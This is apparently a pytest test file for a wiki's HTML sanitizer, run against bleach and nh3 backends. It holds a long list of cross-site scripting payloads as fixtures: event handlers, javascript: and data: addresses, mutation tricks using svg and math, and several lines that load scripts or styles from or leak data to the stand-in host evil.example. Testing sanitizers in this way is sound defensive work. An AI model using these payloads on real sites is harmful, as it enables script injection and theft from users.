"""Nothing gets past the last pass over a Markdown page, and what our writers make gets through unchanged.

The attacks run against each library that can stand behind ``sanitize``: nh3 where it is installed.
"""

from collections.abc import Callable
from importlib import import_module
from importlib.util import find_spec
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.domain.wiki_settings import WikiSettings
from app.markup import Facts, Live, parse, render
from app.markup import sanitize as sanitizing
from app.markup.sanitize import sanitize
from tests.conformance.conform import tokens
from tests.markup.harmless import check

WIKI = WikiSettings(base_url="https://wiki.example.org", typography=2)
Clean = Callable[[str], str]


def whole(html: str, wiki: WikiSettings = WIKI) -> str:
    return "".join(part for part in sanitize([html], wiki) if isinstance(part, str))


def nh3_backend(wiki: WikiSettings) -> Clean:
    library: Any = import_module("nh3")
    protocols = sanitizing.protocols_of(wiki)

    def kept(tag: str, name: str, value: str) -> str | None:
        return value if sanitizing.allowed(tag, name, value, protocols) else None

    attributes = {tag: set(names) for tag, names in sanitizing._ATTRIBUTES.items()}
    return lambda html: str(
        library.clean(
            html,
            tags=set(sanitizing.ELEMENTS),
            attributes=attributes,
            attribute_filter=kept,
            url_schemes=set(protocols),
            link_rel=None,
        )
    )


@pytest.fixture(
    params=[
        pytest.param("whole", id="through the whole pass"),
        pytest.param("bleach", id="bleach alone"),
        pytest.param("nh3", id="nh3 alone", marks=pytest.mark.skipif(not find_spec("nh3"), reason="not installed")),
    ]
)
def clean(request: pytest.FixtureRequest) -> Clean:
    makers: dict[str, Callable[[WikiSettings], Clean]] = {"bleach": sanitizing.backend, "nh3": nh3_backend}
    return makers[request.param](WIKI) if request.param in makers else whole


ATTACKS = [
    pytest.param("<script>alert(1)</script>", id="a script"),
    pytest.param("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", id="a script from elsewhere, in capitals"),
    pytest.param("<scr<script>ipt>alert(1)</scr</script>ipt>", id="a script inside a script's name"),
    pytest.param("<<script>alert(1);//<</script>", id="an extra bracket before a script"),
    pytest.param("<script/xss>alert(1)</script>", id="a script with a slash"),
    pytest.param("<script\x00>alert(1)</script\x00>", id="a script with a zero in its name"),
    pytest.param('<img src="x" onerror="alert(1)">', id="an event of a picture"),
    pytest.param("<img src=x onerror=alert(1)//", id="an event of a picture that never ends"),
    pytest.param('<img/src="x"/onerror="alert(1)">', id="slashes between attributes"),
    pytest.param('<img src="x"onerror="alert(1)">', id="no blank between attributes"),
    pytest.param('<img src="x` `<script>alert(1)</script>"` `>', id="backticks around a value"),
    pytest.param('<img """><script>alert(1)</script>">', id="quotes without attribute"),
    pytest.param('<a title="x" onmouseover = "alert(1)">x</a>', id="blanks around the equals sign"),
    pytest.param('<p ONCLICK="alert(1)">x</p>', id="an event in capitals"),
    pytest.param('<p\nonclick\n=\n"alert(1)">x</p>', id="an event over several lines"),
    pytest.param('<details open="open" ontoggle="alert(1)">x</details>', id="an event that comes by itself"),
    pytest.param('<a href="javascript:alert(1)">x</a>', id="a script as an address"),
    pytest.param('<a href="JaVaScRiPt:alert(1)">x</a>', id="a script as an address in mixed case"),
    pytest.param('<a href="&#106;&#97;vascript&#58;alert(1)">x</a>', id="a script written in numbers"),
    pytest.param('<a href="&#x6A&#x61&#x76ascript:alert(1)">x</a>', id="a script in numbers without semicolons"),
    pytest.param('<a href="javascript&colon;alert(1)">x</a>', id="a colon by its name"),
    pytest.param('<a href="java&Tab;script:alert(1)">x</a>', id="a tab by its name"),
    pytest.param('<a href="java&NewLine;script:alert(1)">x</a>', id="a line end by its name"),
    pytest.param('<a href="jav\tascript:alert(1)">x</a>', id="a tab in a scheme"),
    pytest.param('<a href="jav&#x09;ascript:alert(1)">x</a>', id="a tab in a scheme, by number"),
    pytest.param('<a href=" &#14;  javascript:alert(1)">x</a>', id="control characters before a scheme"),
    pytest.param('<a href="\x01\x1fjavascript:alert(1)">x</a>', id="raw control characters before a scheme"),
    pytest.param('<a href="javascript\x00:alert(1)">x</a>', id="a zero in a scheme"),
    pytest.param('<a href="\u2028javascript:alert(1)">x</a>', id="a line separator before a scheme"),
    pytest.param('<a href="javascript:0">x</a>', id="a script that looks like a port"),
    pytest.param('<a href="&amp;#106;avascript:alert(1)">x</a>', id="entities twice over"),
    pytest.param('<a href="vbscript:msgbox(1)">x</a>', id="a script of another kind"),
    pytest.param('<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', id="data as an address"),
    pytest.param('<img src="data:image/svg+xml,%3Csvg onload=alert(1)%3E">', id="data as a picture"),
    pytest.param('<img src="javascript:alert(1)">', id="a script as a picture"),
    pytest.param('<source srcset="a.png 1x, javascript:alert(1) 2x">', id="a script among pictures"),
    pytest.param('<video poster="javascript:alert(1)" controls="controls"></video>', id="a script as a poster"),
    pytest.param('<blockquote cite="javascript:alert(1)">x</blockquote>', id="a script as a source"),
    pytest.param('<a href="view-source:http://a.b">x</a>', id="a source view"),
    pytest.param('<a href="blob:https://a.b/c">x</a>', id="a blob"),
    pytest.param('<a ping="https://evil.example" href="/a">x</a>', id="a link that tells on its reader"),
    pytest.param('<a xlink:href="javascript:alert(1)">x</a>', id="a link of another vocabulary"),
    pytest.param('<iframe srcdoc="<script>alert(1)</script>"></iframe>', id="a frame with its own page"),
    pytest.param("<iframe src=javascript:alert(1)>", id="a frame that runs a script"),
    pytest.param('<object data="javascript:alert(1)"><param name="x"></object>', id="an object"),
    pytest.param('<embed src="https://evil.example/x.swf">', id="an embedded program"),
    pytest.param('<button formaction="javascript:alert(1)">x</button>', id="a button with an address"),
    pytest.param("<isindex type=image src=1 onerror=alert(1)>", id="an index"),
    pytest.param('<base href="javascript:alert(1)//">', id="a base for all links"),
    pytest.param('<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', id="a refresh"),
    pytest.param('<link rel="stylesheet" href="https://evil.example/x.css">', id="a style sheet"),
    pytest.param("<style>@import 'https://evil.example/x.css';</style>", id="a style"),
    pytest.param("<style><!--</style><script>alert(1)//--></script>", id="a script behind a style"),
    pytest.param('<p style="background:url(javascript:alert(1))">x</p>', id="a style attribute"),
    pytest.param("<svg onload=alert(1)>", id="a drawing with an event"),
    pytest.param("<svg><script>alert&#40;1)</script></svg>", id="a script in a drawing"),
    pytest.param('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', id="a link in a drawing"),
    pytest.param('<svg><animate attributeName="href" values="javascript:alert(1)"></svg>', id="an animated link"),
    pytest.param('<svg></p><style><a title="</style><img src=1 onerror=alert(1)>">', id="a drawing, then a style"),
    pytest.param("<svg><foreignObject><p><img src=x onerror=alert(1)></foreignObject></svg>", id="HTML in a drawing"),
    pytest.param("<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>", id="plain data in a drawing"),
    pytest.param('<math><mtext><table><mglyph><style><img src="x" onerror="alert(1)">', id="a formula around a table"),
    pytest.param(
        '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
        id="HTML in a formula",
    ),
    pytest.param('<math href="javascript:alert(1)">x</math>', id="a formula that is a link"),
    pytest.param(
        '<form><math><mtext></form><form><mglyph><style></math><img src onerror="alert(1)">', id="crossing forms"
    ),
    pytest.param('<noscript><p title="</noscript><img src=x onerror=alert(1)>">', id="an end tag in a title"),
    pytest.param("<template><img src=x onerror=alert(1)></template>", id="a template"),
    pytest.param('<textarea><p title="</textarea><img src=x onerror=alert(1)>">', id="a field's end in a title"),
    pytest.param('<title><p title="</title><img src=x onerror=alert(1)>">', id="a page title's end in a title"),
    pytest.param('<xmp><p title="</xmp><img src=x onerror=alert(1)>">', id="an example's end in a title"),
    pytest.param('<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>', id="old raw text"),
    pytest.param("<plaintext><script>alert(1)</script>", id="plain text without end"),
    pytest.param("<!--><img src=x onerror=alert(1)>-->", id="a comment that is closed at once"),
    pytest.param("<!--[if IE]><script>alert(1)</script><![endif]-->", id="a comment with a condition"),
    pytest.param("<!-- --!><img src=x onerror=alert(1)> -->", id="a comment closed by an exclamation mark"),
    pytest.param("<!DOCTYPE html [<!ENTITY x 'y'>]><p>x</p>", id="a document type"),
    pytest.param("<?xml version='1.0'?><?php echo 1 ?>", id="instructions"),
    pytest.param("<![CDATA[<script>alert(1)</script>]]>", id="plain data"),
    pytest.param("<a href='x' title='><script>alert(1)</script>'>x</a>", id="a tag's end in single quotes"),
    pytest.param("<img src='https://evil.example/?", id="a picture's address that swallows the rest"),
    pytest.param('<a href="https://evil.example/?x=', id="a link's address that swallows the rest"),
    pytest.param('<p title="\ufdd00\ufdd0">\ufdd00\ufdd0</p>', id="our own signs"),
    pytest.param('<q title="&quot; onclick=&quot;alert(1)">x</q>', id="quotes by their names in a title"),
    pytest.param("<p/onclick=alert(1)>x</p>", id="a slash for a blank"),
    pytest.param('<p x="1" x="2" onclick="alert(1)" class="a" class="b">x</p>', id="attributes twice"),
    pytest.param("<%<script>%>alert(1)</script>", id="a bracket and a per cent sign"),
    pytest.param("</p onclick=alert(1)><p>", id="attributes of an end tag"),
    pytest.param("<ſcript>alert(1)</ſcript>", id="a letter that is an s in capitals"),
    pytest.param("<marquee onstart=alert(1)>", id="running text"),
    pytest.param("<body onload=alert(1)><html onclick=alert(1)><head>", id="parts of a document"),
    pytest.param("<frameset><frame src=javascript:alert(1)></frameset>", id="frames"),
    pytest.param("<select><style></select><img src=x onerror=alert(1)>", id="a style in a choice"),
    pytest.param('<table background="javascript:alert(1)"><tr><td>x</table>', id="a background"),
    pytest.param('<img name="getElementById" src="/a">', id="a name that hides a function"),
    pytest.param('<a name="cookie" href="/a">x</a><form name="body"></form>', id="names that hide parts of the page"),
]
# What is made safe before any library sees it.
BEFORE = [
    pytest.param('<form action="javascript:alert(1)"><input type="submit"></form>', id="a form"),
    pytest.param('<input type="image" src="x" onerror="alert(1)">', id="a field that is a picture"),
    pytest.param('<input type="text" name="password">', id="a field for a password"),
    pytest.param("<p>\ud800<script>alert(1)</script></p>", id="half a character"),
    pytest.param('<input class="x">', id="a field of no type"),
    pytest.param('<INPUT type="text" type="checkbox" class="x">', id="a field of two types"),
    pytest.param('<p class="\ud800">x</p>', id="half a character in an attribute"),
]


@pytest.mark.parametrize("html", ATTACKS)
def test_an_attack_is_disarmed(clean: Clean, html: str) -> None:
    check(clean(html))


@pytest.mark.parametrize("html", ATTACKS + BEFORE)
def test_what_was_disarmed_stays_so(html: str) -> None:
    """A browser that reads the page, writes it out and reads it again finds the same."""
    once = whole(html)
    assert whole(once) == once


@pytest.mark.parametrize(
    "around", ["<p>{}</p>", "<ul><li><div>{}</div></li></ul>", "<table><tr><td>{}</td></tr></table>"]
)
@pytest.mark.parametrize("html", ATTACKS + BEFORE)
def test_an_attack_is_disarmed_inside(around: str, html: str) -> None:
    check(whole(around.format(html)))


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        pytest.param("a<br/>b<hr />", "a<br>b<hr>", id="tags without content"),
        pytest.param("a&nbsp;&#039;&quot;&times;b", "a&nbsp;&#039;&quot;&times;b", id="entities stay entities"),
        pytest.param(
            '<a href="mailto:&#97;&#64;&#x100;" class="mail" title="&#97;">&#97;&#64;</a>',
            '<a href="mailto:&#97;&#64;&#x100;" class="mail" title="&#97;">&#97;&#64;</a>',
            id="guarded mail stays guarded",
        ),
        pytest.param("a & b &lt c", "a &amp; b &amp;lt c", id="ampersands that begin nothing"),
        pytest.param("a < b > c", "a &lt; b &gt; c", id="brackets that are text"),
        pytest.param("<pre>\n\n a</pre>", "<pre>\n\n a</pre>", id="empty lines before code"),
        pytest.param("<pre>\n\n<b>a</b></pre>", "<pre>\n\n<b>a</b></pre>", id="empty lines before a tag in code"),
        pytest.param("<b><i>a</b>b</i>", "<b><i>a</i></b>b", id="crossing tags"),
        pytest.param("a</b></p>", "a", id="tags that close nothing"),
        pytest.param("<ul><li><b>a", "<ul><li><b>a</b></li></ul>", id="tags that stay open"),
        pytest.param("<p><button>a</button></p>", "<p>&lt;button&gt;a&lt;/button&gt;</p>", id="unknown tags are text"),
        pytest.param("<p onclick='x'>a", "&lt;p onclick='x'&gt;a", id="tags that no writer makes are text"),
        pytest.param(
            "<table><b>x</b><tr><td>a</td></tr></table>",
            "x<table><tbody><tr><td>a</td></tr></tbody></table>",
            id="what stands between rows goes before the table",
        ),
        pytest.param("a\x00\x1b\x0cb", "a\ufffd\ufffd\x0cb", id="control characters are replaced"),
        pytest.param(
            '<a href="file:///srv/x" class="windows">x</a>',
            '<a href="file:///srv/x" class="windows">x</a>',
            id="a share",
        ),
        pytest.param('<a href="tel:1">x</a>', '<a href="tel:1">x</a>', id="a shortcut's scheme"),
        pytest.param(
            '<a href="/a" data-wiki-id="a" data-x="b">x</a>', '<a href="/a" data-wiki-id="a">x</a>', id="our data"
        ),
    ],
)
def test_html(html: str, expected: str) -> None:
    assert whole(html) == expected


def test_a_scheme_of_this_wiki_is_allowed_and_one_of_another_is_not() -> None:
    matrix = WikiSettings(schemes={"matrix": "on", "gopher": ""}, interwiki={"sip": "sip:{NAME}"})
    html = '<a href="matrix:a">a</a><a href="sip:b">b</a><a href="gopher://c.d">c</a>'
    assert whole(html, matrix) == '<a href="matrix:a">a</a><a href="sip:b">b</a><a>c</a>'
    assert whole(html) == '<a>a</a><a>b</a><a href="gopher://c.d">c</a>'


@pytest.mark.parametrize("scheme", ["javascript", "data", "vbscript"])
def test_no_setting_allows_a_script(scheme: str) -> None:
    evil = WikiSettings(schemes={scheme: "on"}, interwiki={"evil": f"{scheme}:{{NAME}}"})
    assert whole(f'<a href="{scheme}:x">a</a>', evil) == "<a>a</a>"


def test_live_places_stay_where_they_are() -> None:
    one, two, three = Live("one", {}), Live("two", {"a": "b"}), Live("three", {})
    parts: list[str | Live] = ["<p>a<b>", one, "b</b>", two, "</p><table><tr><td>", three, "</td></tr></table>", one]
    assert sanitize(parts, WIKI) == (
        "<p>a<b>",
        one,
        "b</b>",
        two,
        "</p><table><tbody><tr><td>",
        three,
        "</td></tr></tbody></table>",
        one,
    )


def test_nobody_forges_a_live_place() -> None:
    place = Live("one", {})
    parts = sanitize(["<p title='\ufdd00\ufdd0'>\ufdd00\ufdd0<b>", place, "</b>\ufdd01\ufdd0</p>"], WIKI)
    assert [part for part in parts if isinstance(part, Live)] == [place]


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        pytest.param("<p>{}<b>a</b></p>", "<p>{}<b>a</b></p>", id="tags"),
        pytest.param(
            '<p onclick="x" class="y">{}<q title="z">a</q><br/></p>',
            '<p class="y">{}<q title="z">a</q><br></p>',
            id="attributes",
        ),
        pytest.param('<p>{}<a href="javascript:x" class="y">a</a></p>', '<p>{}<a class="y">a</a></p>', id="scripts"),
        pytest.param("<p>{}<button>a</button></p>", "<p>{}a</p>", id="unknown tags, which are dropped"),
        pytest.param("<p>{}</b>a<i></p>", "<p>{}a<i></i></p>", id="tags out of order"),
        pytest.param(
            '<table class="x"><tr><td colspan="2" onclick="y">{}a</td></tr></table>',
            '<table class="x"><tr><td colspan="2">{}a</td></tr></table>',
            id="cells",
        ),
    ],
)
def test_a_piece_beyond_its_bound_is_cleaned_tag_by_tag(html: str, expected: str) -> None:
    many = "<b></b>" * sanitizing.MOST_IN_PIECES
    assert whole(html.format(many)) == expected.format(many)


def test_beyond_all_bounds_tags_lose_their_attributes() -> None:
    html = "".join(f'<a href="/{number}">b</a>' for number in range(sanitizing.MOST_IN_PIECES))
    made = whole(f"<p>{html}</p><p><i>z</i></p>")
    assert made.startswith('<p><a href="/0">b</a>')
    assert made.endswith("<a>b</a></p><p><i>z</i></p>")
    check(made)


def test_a_tag_of_too_many_attributes_is_text() -> None:
    many = "".join(f' x{number}="y"' for number in range(50))
    assert whole(f"<p{many}>a</p>") == f"&lt;p{many}&gt;a"


SOURCES = st.lists(
    st.sampled_from(
        [
            "**a** //b// ''c'' __d__ ",
            "<sub>x</sub>",
            "<del>y</del>",
            "\n\n",
            "\n",
            "((note [[a]]))",
            "[[a|b]] ",
            "[[wp>x y]] ",
            "[[tel>123]] ",
            "<a.b@c.de> ",
            "[[\\\\srv\\share]] ",
            "https://a.b/c?d=e&f=g#h ",
            "{{a.png?50|t}} ",
            "{{http://a.b/c.jpg}} ",
            "{{a.pdf}} ",
            "{{a.mp4}} ",
            "{{a.mp3}} ",
            "\"q\" 'r' ",
            "640x480 ",
            ":-) ",
            "HTML ",
            "-> (c) ",
            "& < > \" ' ",
            "&amp; &#64; ",
            "\n  * item",
            "\n    - two",
            "\n  * three\n",
            "\n> quote\n>> more\n",
            "\n<code php>\n$a = '<b>';\n\n</code>\n",
            "\n  code\n",
            "\n== Head ==\n",
            "\n----\n",
            "\\\\ ",
            "%%raw%%",
            "\n<file x a.x>b</file>\n",
            "{{backlinks>.}}",
            "é😀 ",
        ]
    ),
    max_size=25,
).map("".join)


@given(SOURCES)
@settings(max_examples=150, deadline=None)
def test_what_our_writers_make_comes_out_the_same(source: str) -> None:
    made = render(parse(source, WIKI), "ns:page", Facts(), WIKI).parts
    passed = sanitize(made, WIKI)

    assert [part for part in passed if isinstance(part, Live)] == [part for part in made if isinstance(part, Live)]
    assert tokens(shown(passed)) == tokens(shown(made))
    assert sanitize(passed, WIKI) == passed


def shown(parts: tuple[str | Live, ...]) -> str:
    return "".join(part if isinstance(part, str) else f"{{{part.kind}}}" for part in parts)


HTML = st.lists(
    st.one_of(
        st.sampled_from(
            [
                "<",
                ">",
                "</",
                "/>",
                "<!--",
                "-->",
                "<![CDATA[",
                "]]>",
                "<!",
                "<?",
                '"',
                "'",
                "&",
                "&#",
                ";",
                "=",
                " ",
                "\n",
                "\x00",
                "<b>",
                "</b>",
                "<i ",
                "<p>",
                "</p>",
                "<div>",
                "</div>",
                "<table>",
                "<tr>",
                "<td>",
                "</td>",
                "</table>",
                '<a href="',
                "javascript:",
                'https://a.b">',
                "</a>",
                "<script>",
                "</script>",
                "<style>",
                "</style>",
                "<svg>",
                "</svg>",
                "<math>",
                "<mtext>",
                "<img ",
                "onerror=x ",
                "src=x ",
                ' title="',
                "<pre>",
                "</pre>",
                "<li>",
                "<ul>",
                "<br/>",
                "<template>",
                "<noscript>",
                "<select>",
                "a",
                "\ufdd00\ufdd0",
                "\ud800",
                "&lt;",
                "&amp;lt;",
                '<input type="checkbox">',
                '<details open="open">',
            ]
        ),
        st.text(max_size=3),
    ),
    max_size=40,
).map("".join)


@given(HTML)
@settings(max_examples=400, deadline=None)
def test_any_html_becomes_harmless_and_stays_so(html: str) -> None:
    once = whole(html)
    check(once)
    assert whole(once) == once
